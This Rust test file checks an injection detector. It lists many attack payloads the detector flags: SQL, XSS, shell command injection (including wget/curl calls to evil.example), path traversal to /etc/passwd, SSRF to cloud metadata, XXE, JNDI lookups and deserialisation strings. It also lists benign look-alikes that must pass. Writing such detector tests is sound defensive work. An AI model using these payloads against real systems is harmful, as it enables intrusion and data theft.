use super::*;

fn found(value: &str, kind: Kind) -> Option<Finding> {
    Detector::new().judge(value, kind, &mut Scratch::default())
}

/// Every value is found, and under this class.
fn finds(class: Class, values: &[&str]) {
    for value in values {
        let finding = found(value, Kind::Value);
        assert_eq!(finding.as_ref().map(|finding| finding.class), Some(class), "{value:?}: {finding:?}");
    }
}

fn lets_pass(values: &[&str]) {
    for value in values {
        assert_eq!(found(value, Kind::Value), None, "{value:?}");
    }
}

#[test]
fn sql_is_found_in_each_context() {
    finds(
        Class::Sql,
        &[
            "1 or 1=1",
            "' or 'a'='a",
            "\" or \"\"=\"",
            "') or ('x')=('x",
            "admin'--",
            "admin' #",
            "1' AND SLEEP(5)-- -",
            "-1 UNION SELECT 1,2,password FROM users",
            "1'/**/uNiOn/*!50000all*/select/**/null,null#",
            "1; DROP TABLE users",
            "1'; exec master..xp_cmdshell 'dir'--",
            "1 and 1=(select count(*) from tabname)",
            "1'||(select pg_sleep(5))||'",
            "1 order by 10--",
            "1) as x where 1=1 and (1=1",
            "x','y')--",
            "1 waitfor delay '0:0:5'",
            "' && 1=1#",
        ],
    );
}

#[test]
fn what_only_looks_like_sql_passes() {
    lets_pass(&[
        "select the best option from the menu where it says union",
        "drop table reservations",
        "The union selected a few friends from a list",
        "O'Brien",
        "D'Angelo & Sons",
        "6' or 7' tall",
        "It's 5 or 6, and that's it",
        "7\" #2 circular needle",
        "^1.2.3 || >=2",
        "if (a == 1 && b > 2) { return c || d; }",
        "SELECT id, name FROM users WHERE id = $1 ORDER BY name",
        "INSERT INTO users (name) VALUES ('a'); SELECT * FROM users;",
        "let it = 'a' or 'b'; -- said she",
        "Cats and dogs; select one",
        "rock 'n' roll -- the best of",
        "C# and F#",
        "a=1&b=2",
    ]);
}

#[test]
fn short_values_that_only_sql_has_are_found_and_their_neighbours_pass() {
    finds(
        Class::Sql,
        &[
            "' || '",
            "A 'xor' B",
            "1 /*",
            "1--",
            "@@version --",
            "limit 0,9--",
            "( 2 ) in ( binary ( 'c' ) )  --",
            "1 and 1=1 having 2=2",
            "hi or b=b",
            "x' union(select y)",
            "2.e(ascii(",
            "lower(password)::int",
            "ascii(substring(pin,1,1))",
            "length((select length(version())))",
            "b' * 3 - '0",
            "b' = !!!'0",
            "name' or '",
            "7' sleep(9.to_i) '",
            "; sleep(7)",
            "select session_user;",
            "1; delete low_priority from a",
            "1;copy (select 1) to program 'id'",
            "4 or /**/true",
            "4/**/or 4",
            "8 as \"b\" from c",
            "b\"is\\N#",
            "1 or name is not null",
            "9; execute as login 'b'",
        ],
    );
    lets_pass(&[
        "\"&\" SIGN",
        "SMALL \"LIKE\" STAMP",
        "'a' or 'b'",
        "see page 1 -- the first",
        "add --verbose to the command",
        "Frames with a = A and b = B",
        "the union of select members (met)",
        "2.e.g. this",
        "a::int",
        "File \"<string>\"",
        "' => '",
        "import d from \"mod\"",
        "sleep(well)",
        "select the session",
        "delete it; from now on",
        "4 or 5",
        "5 or true north",
        "if (ord(c) < 32) { c = 1 }\nx = 2",
        "merge; merge into server ultimately",
        "a; select (STDOUT); b",
        "@@observable",
        "is null",
    ]);
}

#[test]
fn hidden_scripts_are_found_and_their_neighbours_pass() {
    finds(
        Class::Xss,
        &[
            "<img src=x onerror=",
            "<svg onload",
            "<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
            "<button.onclick=\"confirm(1)\">",
            "</a onmouseover=alert(1)>",
            "<%b onclick=\"x()\">",
            "<x:y x:ontimer=\"z\">",
            "\" type=image onerror=Q \"",
            "<div style=\"a:b{c\">",
            "<div style=\"color:\\72\\65\\64\">",
            "<div style=\"x:ex/*a*/pression(b)\">",
            "<style>*[{}@import'a.css?]{}</style>",
            "<a href=\"http://0x7f.1.2.0003/\">x</a>",
            "<a href=\"http://%61%2e%62/\">x</a>",
            "<a href=\"javaascript:javascript:alert(1)\">x</a>",
            "<math><a xlink:href=\"//a.example/\">x",
            "<!DOCTYPE x [ <!ATTLIST img onerror CDATA \"y\"> ]>",
            "<meta charset=\"mac-farsi\">",
            "b3;alert(1)//c4",
            "{confirm(1)}</script>",
            "eval(location.hash.slice(1))",
            "location=\"http://a.example\";",
            "window[\"document\"][\"cookie\"]",
            "top['al'+'ert'](1)",
            "import('//a.example/b.js')",
            "[1].find(alert)",
            "(![]+[])[+!+[]]",
            "setInterval`al\\ert`",
            "background:url(javascript:x)",
        ],
    );
    lets_pass(&[
        "the onload attribute",
        "<a href=\"https://a.example/b.svg\">x</a>",
        "<div style=\"color: {{ color }}\">",
        "<div style=\"content: '\\2014'\">",
        "<div style=\"background: url('a b.png')\">",
        "<a href=\"http://127.0.0.1:8080/\">x</a>",
        "<link rel=\"shortcut icon\" href=\"https://a.example/favicon.ico\">",
        "<iframe src=\"...\"></iframe>",
        "<title>a</title>\n</head>",
        "<meta charset=\"utf-8\">",
        "the document cookie",
        "definePlugin(Alert);",
        "x;y // and z",
        "[x](y)![]()",
        "String.fromCharCode(t)",
        "Treats <plaintext> as text, as the standard has it",
        "location: Berlin",
        "evaluate(location)",
    ]);
}

#[test]
fn scripts_are_found_in_pages_attributes_and_urls() {
    finds(
        Class::Xss,
        &[
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<a href=\"java\tscript:alert(1)\">x</a>",
            "<a href=javascript&colon;alert(1)>x</a>",
            "\" onfocus=alert(1) autofocus x=\"",
            "javascript:alert(document.domain)",
            "';alert(1)//",
            "\"-alert(1)-\"",
            "<div style=\"width: expression(alert(1))\">",
            "<iframe srcdoc=\"&lt;script&gt;\">",
            "<object data=\"data:text/html;base64,PHNjcmlwdD4=\">",
            "<base href=\"//evil.example/\">",
        ],
    );
}

#[test]
fn pages_and_code_without_scripts_pass() {
    lets_pass(&[
        "<p>Hello <a href=\"https://example.com/\">world</a> and <b>all</b></p>",
        "<img src=\"/a.png\" alt=\"one\" width=10>",
        "a < b and c > d",
        "JavaScript: The Good Parts",
        "I <3 you",
        "Vec<Option<String>>",
        "<table width=\"99%\" border=\"0\">",
        "window.addEventListener('load', start)",
        "The data: a list",
    ]);
}

#[test]
fn commands_are_found_behind_separators_and_in_substitutions() {
    finds(
        Class::Command,
        &[
            "; id",
            "| cat /etc/passwd",
            "127.0.0.1 && whoami",
            "a;wget http://evil.example/x",
            "`id`",
            "$(curl http://evil.example/)",
            "x|/usr/bin/id|",
            "a.jpg; sleep 5",
            "() { :;}; /bin/bash -c \"id\"",
            ";c'a't /etc/passwd",
            "|cat${IFS}/etc/passwd",
            "& ping -n 3 127.0.0.1 &",
        ],
    );
}

#[test]
fn shells_in_documentation_and_plain_signs_pass() {
    lets_pass(&[
        "npm install && npm test",
        "Run `ls -la` to see the files; then type `id` and press return",
        "cat file | grep foo",
        "Tom & Jerry; cats & dogs",
        "R&D",
        "a | b | c",
        "price $(USD)",
        "find it; sort it; date it",
    ]);
}

#[test]
fn ways_out_of_a_folder_are_found() {
    finds(
        Class::Traversal,
        &[
            "../../../../etc/passwd",
            "..\\..\\boot.ini",
            "..%2f..%2fetc%2fpasswd",
            "%252e%252e%252f%252e%252e%252fetc/passwd",
            "....//....//etc/hosts",
            "..%c0%af..%c0%afwindows/system32/drivers/etc/hosts",
            "/etc/passwd",
            "/var/www/../../etc/shadow",
            "../../../../../../{FILE}",
        ],
    );
    assert!(found("..;/x", Kind::Path).is_some());
    assert!(found("../x", Kind::FileName).is_some());
}

#[test]
fn relative_paths_of_programs_pass() {
    lets_pass(&[
        "../lib/util.js",
        "import x from '../../y'",
        "../../node_modules/a/schema.json",
        "/usr/local/bin/tool",
        "C:\\Program Files\\Tool\\tool.exe",
        "and so on... / etc.",
        "https://example.com/a/b/../c.html",
    ]);
}

#[test]
fn each_other_class_is_found() {
    finds(Class::NoSql, &["{\"$ne\": 1}", "', $where: '1 == 1'", "';return true;var a='", "[$gt]="]);
    finds(
        Class::Template,
        &["{{7*7}}", "${{7*7}}", "<%= 7*7 %>", "#{7*7}", "{{''.__class__.__mro__}}", "{{config.items()}}"],
    );
    finds(
        Class::Lookup,
        &["${jndi:ldap://a.example/x}", "${${lower:j}ndi:rmi://a/x}", "${${::-j}${::-n}di:ldap://x}"],
    );
    finds(Class::Ldap, &["*)(uid=*))(|(uid=*", "admin)(|(password=*", "value)(cn=a"]);
    finds(Class::XPath, &["count(/child::node())", "x'] | //user/* | a['"]);
    finds(
        Class::Header,
        &[
            "a%0d%0aSet-Cookie: a=b",
            "a@b.example\nBcc: c@d.example",
            "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK",
        ],
    );
    finds(
        Class::Ssrf,
        &[
            "http://169.254.169.254/latest/meta-data/",
            "http://0x7f.1/",
            "gopher://x:70/_a",
            "http://2130706433/",
            "http://[::ffff:a9fe:a9fe]",
        ],
    );
    finds(Class::Xxe, &["<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"]);
    finds(
        Class::Deserialisation,
        &[
            "rO0ABXNyABFqYXZhLnV0aWwu",
            "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
            "!!python/object/apply:os.system ['id']",
        ],
    );
    finds(Class::Prototype, &["{\"__proto__\":{\"a\":1}}", "__proto__[a]=b"]);
    finds(Class::Include, &["<!--#exec cmd=\"id\" -->"]);
    finds(Class::Code, &["<?php system($_GET['c']); ?>", "');phpinfo();//", "__import__('os').popen('x')"]);
    for name in ["__proto__", "a[__proto__][b]", "user[$ne]", "$where", "constructor.prototype.a"] {
        assert!(found(name, Kind::Name).is_some(), "{name}");
    }
}

#[test]
fn what_is_near_each_other_class_passes() {
    lets_pass(&[
        "{\"$schema\": \"https://json-schema.org/draft/2020-12/schema\"}",
        "It costs $12 or $gt more",
        "Hello {{name}}, your order {{ order.id }} is here",
        "${HOME}/bin",
        "`${a} and ${b.c}`",
        "<%= name %>",
        "(&(objectClass=person)(uid=a))",
        "f(x)(y)",
        "//div[@id='a']/span",
        "Dear all,\nplease find it attached.\nTo: be done",
        "https://example.com/",
        "http://localhost:3000/api",
        "http://192.168.1.10/",
        "<!DOCTYPE html><html></html>",
        "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">",
        "{\"a\":1,\"b\":[true,null]}",
        "prototype",
        "<!-- a comment -->",
        "java.io.IOException: no such file",
        "3f2504e0-4f89-11d3-9a0c-0305e82c3301",
        "iVBORw0KGgoAAAANSUhEUgAAAAUA",
        "2024-05-01T12:00:00Z INFO started; 12 workers (pid=7)",
    ]);
    assert_eq!(
        found("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)", Kind::Header),
        None
    );
    assert_eq!(found("$ref", Kind::Name), None);
    assert_eq!(found("user[name]", Kind::Name), None);
}

#[test]
fn encodings_over_one_another_are_undone() {
    use base64::Engine as _;
    let attack = "1' or '1'='1";
    let base64 = |text: &str| base64::engine::general_purpose::STANDARD.encode(text);
    let percent = |text: &str| text.bytes().map(|byte| format!("%{byte:02x}")).collect::<String>();
    for value in [
        base64(attack),
        percent(attack),
        percent(&percent(attack)),
        percent(&base64(attack)),
        base64(&percent(attack)),
        base64(&base64(attack)),
        attack.replace('\'', "\\u0027"),
        attack.replace('\'', "&#39;"),
        attack.replace('\'', "\u{ff07}"),
    ] {
        let finding = found(&value, Kind::Value).unwrap();
        assert_eq!(finding.class, Class::Sql);
        assert!(finding.layer > 0 && finding.decoded.contains("or"), "{finding:?}");
    }
}

#[test]
fn a_finding_shows_a_bounded_piece_of_the_value() {
    let value = format!("' or 1=1 -- {}", "ü".repeat(500));
    let finding = found(&value, Kind::Value).unwrap();
    assert!(finding.decoded.len() <= SHOWN && finding.score >= THRESHOLD);
}
